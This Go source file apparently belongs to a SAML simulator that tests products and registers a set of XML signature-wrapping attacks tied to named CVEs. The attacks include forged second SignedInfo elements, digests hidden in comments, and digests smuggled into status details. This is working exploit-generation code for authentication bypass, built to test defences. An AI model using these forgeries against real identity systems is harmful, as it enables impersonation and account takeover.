package forge

import (
	"github.com/beevik/etree"

	"rollcall.example/simulator/forge/dsig"
	"rollcall.example/simulator/idp"
)

// Attacks on a product that checks the signature over one SignedInfo, or digest, and
// believes another one. All but the last kind carry a genuine signature and a content
// that was changed, with a digest that fits it somewhere.
func init() {
	twin := func(place func(signature, genuine, forged *etree.Element)) func(Donor, *idp.Draft) error {
		return then(onVictim, onSigned(func(_ Donor, el *etree.Element) error {
			signature, err := find(el, "Signature")
			if err != nil {
				return err
			}
			digest, err := digestOf(el)
			if err != nil {
				return err
			}
			genuine := signature.SelectElement("SignedInfo")
			forged := genuine.Copy()
			if err := write(forged, "Reference/DigestValue", digest); err != nil {
				return err
			}
			place(signature, genuine, forged)
			return nil
		}))
	}
	register("ref",
		Attack{
			Row: "REF-10", Name: "signed-info-forged-second", Rule: "one-signed-info", Modes: Alone,
			Summary:  "has a second SignedInfo, which fits what was changed",
			Sources:  []string{"CVE-2019-3465", "CVE-2025-29774"},
			document: twin(func(_, genuine, forged *etree.Element) { behind(genuine, forged) }),
		},
		Attack{
			Row: "REF-11", Name: "signed-info-forged-first", Rule: "one-signed-info", Modes: Alone,
			Summary:  "has a SignedInfo that fits what was changed before the genuine one",
			Sources:  []string{"CVE-2025-29774", "CVE-2025-29775"},
			document: twin(func(_, genuine, forged *etree.Element) { before(genuine, forged) }),
		},
		Attack{
			Row: "REF-12", Name: "signed-info-behind-value", Rule: "one-signed-info", Modes: Alone,
			Summary:  "has a second SignedInfo behind the signature value",
			Sources:  []string{"CVE-2019-3465"},
			document: twin(func(signature, _, forged *etree.Element) { behind(signature.SelectElement("SignatureValue"), forged) }),
		},
		Attack{
			Row: "REF-13", Name: "signed-info-hidden", Rule: "one-signed-info", Modes: Alone,
			Summary: "hides the genuine SignedInfo in an object, with a forged one in its place",
			Sources: []string{"CVE-2025-29774"},
			document: twin(func(signature, genuine, forged *etree.Element) {
				before(genuine, forged)
				holder := object()
				holder.AddChild(genuine)
				signature.AddChild(holder)
			}),
		},
		Attack{
			Row: "REF-14", Name: "digest-comment-first", Rule: "digest-comment", Modes: Alone,
			Summary: "has a digest that fits what was changed in a comment before the genuine one",
			Sources: []string{"CVE-2025-29775"},
			document: then(onVictim, onDigest(func(value *etree.Element, forged string) {
				value.InsertChildAt(0, etree.NewComment(forged))
			})),
		},
		Attack{
			Row: "REF-14", Name: "digest-comment-last", Rule: "digest-comment", Modes: Alone,
			Summary:  "has a digest that fits what was changed in a comment behind the genuine one",
			Sources:  []string{"CVE-2025-29775"},
			document: then(onVictim, onDigest(func(value *etree.Element, forged string) { value.AddChild(etree.NewComment(forged)) })),
		},
		Attack{
			Row: "REF-15", Name: "digest-forged-first", Rule: "one-digest", Modes: Alone,
			Summary:  "has two digests, of which the first one fits what was changed",
			sign:     twoDigests(true),
			document: onVictim,
		},
		Attack{
			Row: "REF-15", Name: "digest-forged-second", Rule: "one-digest", Modes: Alone,
			Summary:  "has two digests, of which the second one fits what was changed",
			sign:     twoDigests(false),
			document: onVictim,
		},
		Attack{
			Row: "REF-16", Name: "digest-with-instruction", Modes: Alone, Expect: Warn,
			Summary: "has a processing instruction within its digest",
			sign: signing(func(_ Donor, s *dsig.Signature) error {
				s.Bend = func(info *etree.Element) error {
					value, err := find(info, "Reference/DigestValue")
					if err != nil {
						return err
					}
					text := value.Text()
					value.SetText(text[:10])
					value.AddChild(etree.NewProcInst("rollcall", "here"))
					value.AddChild(etree.NewText(text[10:]))
					return nil
				}
				return nil
			}),
		},
		Attack{
			Row: "REF-17", Name: "digest-smuggled", Modes: OnAssertion,
			Only:    "what is smuggled in fits one signature, and there are two",
			Summary: "has a digest that fits what was changed in the details of its status",
			Sources: []string{"CVE-2024-45409"},
			document: then(onVictim, func(_ Donor, draft *idp.Draft) error {
				digest, err := digestOf(draft.Assertion)
				if err != nil {
					return err
				}
				status, err := find(draft.Response, "Status")
				if err != nil {
					return err
				}
				smuggled := status.CreateElement("saml2p:StatusDetail").CreateElement("ds:DigestValue")
				smuggled.CreateAttr("xmlns:ds", nsSignature)
				smuggled.SetText(digest)
				return nil
			}),
		},
		Attack{
			Row: "REF-18", Name: "signed-info-smuggled", Modes: OnAssertion,
			Only:    "what is smuggled in fits one signature, and there are two",
			Summary: "has a SignedInfo that fits what was changed in its extensions",
			Sources: []string{"CVE-2024-45409"},
			document: then(onVictim, func(_ Donor, draft *idp.Draft) error {
				digest, err := digestOf(draft.Assertion)
				if err != nil {
					return err
				}
				forged := draft.Assertion.FindElement("./Signature/SignedInfo").Copy()
				forged.CreateAttr("xmlns:ds", nsSignature)
				if err := write(forged, "Reference/DigestValue", digest); err != nil {
					return err
				}
				place, err := extensions(draft.Response)
				if err == nil {
					place.AddChild(forged)
				}
				return err
			}),
		},
	)
}

// onDigest changes the digest value of each signature; forged is one that fits what the
// element says now.
func onDigest(do func(value *etree.Element, forged string)) func(Donor, *idp.Draft) error {
	return onSigned(func(_ Donor, el *etree.Element) error {
		forged, err := digestOf(el)
		if err != nil {
			return err
		}
		value, err := find(el, "Signature/SignedInfo/Reference/DigestValue")
		if err == nil {
			do(value, forged)
		}
		return err
	})
}

// twoDigests signs a reference with two digest values: that of the donor, and that of
// what the donor will be made into.
func twoDigests(forgedFirst bool) func(Donor, *idp.Draft) error {
	return signing(func(d Donor, s *dsig.Signature) error {
		other := s.References[0]
		other.View = func(el *etree.Element) error { return impersonate(d, el) }
		written, err := other.Element()
		if err != nil {
			return err
		}
		forged := written.SelectElement("DigestValue")
		s.Bend = func(info *etree.Element) error {
			genuine, err := find(info, "Reference/DigestValue")
			if err != nil {
				return err
			}
			if forgedFirst {
				before(genuine, forged)
			} else {
				behind(genuine, forged)
			}
			return nil
		}
		return nil
	})
}
